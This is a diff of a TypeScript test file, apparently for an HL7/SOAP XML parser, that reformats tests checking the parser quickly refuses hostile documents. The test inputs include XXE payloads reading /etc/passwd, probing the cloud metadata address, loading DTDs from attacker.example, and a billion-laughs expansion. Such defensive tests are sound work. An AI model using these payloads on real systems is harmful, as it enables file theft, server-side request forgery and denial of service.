@@ -29,22 +29,44 @@ const envelope = (body: string, prolog = '') =>
 
 describe('the XML parser', () => {
   it('refuses an external entity (XXE) in under 100 ms, without fetching or reading anything', () => {
-    const p = expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3">&xxe;</x>', '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'));
+    const p = expectQuickRefusal(
+      envelope(
+        '<x xmlns="urn:hl7-org:v3">&xxe;</x>',
+        '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+      ),
+    );
     expect(p).toMatchObject({ code: 'VALIDATION_ERROR', field: 'xml' });
     expect(p.detail).toMatch(/DTD/);
-    expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3">&xxe;</x>', '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>'));
-    expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3"/>', '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">'));
-    expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3"/>', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'));
+    expectQuickRefusal(
+      envelope(
+        '<x xmlns="urn:hl7-org:v3">&xxe;</x>',
+        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
+      ),
+    );
+    expectQuickRefusal(
+      envelope('<x xmlns="urn:hl7-org:v3"/>', '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">'),
+    );
+    expectQuickRefusal(
+      envelope(
+        '<x xmlns="urn:hl7-org:v3"/>',
+        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
+      ),
+    );
   });
 
   it('refuses a billion-laughs document in under 100 ms, without expanding it', () => {
     const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
-    expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3">&lol10;</x>', `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>`));
+    expectQuickRefusal(
+      envelope('<x xmlns="urn:hl7-org:v3">&lol10;</x>', `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>`),
+    );
   });
 
   it('refuses a DOCTYPE in any spelling, and an entity it does not know', () => {
     expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3"/>', '<!doctype x>'));
-    expect(refusal(() => parseXml('<x>&unknown;</x>'))).toMatchObject({ code: 'VALIDATION_ERROR', hl7: 'VALIDATIEFOUT' });
+    expect(refusal(() => parseXml('<x>&unknown;</x>'))).toMatchObject({
+      code: 'VALIDATION_ERROR',
+      hl7: 'VALIDATIEFOUT',
+    });
   });
 
   it('refuses what is not well-formed or not namespace-well-formed', () => {
